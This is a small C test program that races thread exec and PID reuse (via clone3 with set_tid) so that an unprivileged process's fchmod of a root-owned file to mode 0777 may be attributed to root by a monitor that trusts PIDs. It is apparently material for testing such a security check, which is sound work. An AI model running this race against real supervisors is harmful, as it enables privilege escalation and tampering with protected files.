/* identity exec FILE: an unprivileged process changes the mode of root's FILE when its other thread, which is root,
   takes its number by executing something.
   identity reuse FILE: it does so when it is killed and root gets its number.
   No memory is looked at for that call, and the descriptor is the same before and after. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <linux/sched.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static int file;

static void *take_the_number(void *unused) {
    (void)unused;
    usleep(20000);
    execl("/bin/busybox", "busybox", "sleep", "0.3", NULL);
    return NULL;
}

/* This thread only; the C library would change all. */
static void become_user(void) {
    syscall(SYS_setresgid, 1000, 1000, 1000);
    syscall(SYS_setresuid, 1000, 1000, 1000);
}

static int by_exec(void) {
    pthread_t other;
    pthread_create(&other, NULL, take_the_number, NULL);
    become_user();
    fchmod(file, 0777);
    /* Not reached where the other thread has executed. */
    return 8;
}

static int by_reuse(void) {
    pid_t first = fork();
    if (first == 0) {
        become_user();
        fchmod(file, 0777);
        _exit(8);
    }
    usleep(20000);
    kill(first, SIGKILL);
    waitpid(first, NULL, 0);
    struct clone_args how = {.exit_signal = SIGCHLD, .set_tid = (unsigned long)&first, .set_tid_size = 1};
    pid_t second = syscall(SYS_clone3, &how, sizeof how);
    if (second == 0) {
        usleep(300000);
        _exit(0);
    }
    if (second != first) return 7;
    waitpid(second, NULL, 0);
    return 0;
}

int main(int count, char **arguments) {
    if (count != 3) return 9;
    file = open(arguments[2], O_RDONLY);
    return strcmp(arguments[1], "exec") ? by_reuse() : by_exec();
}
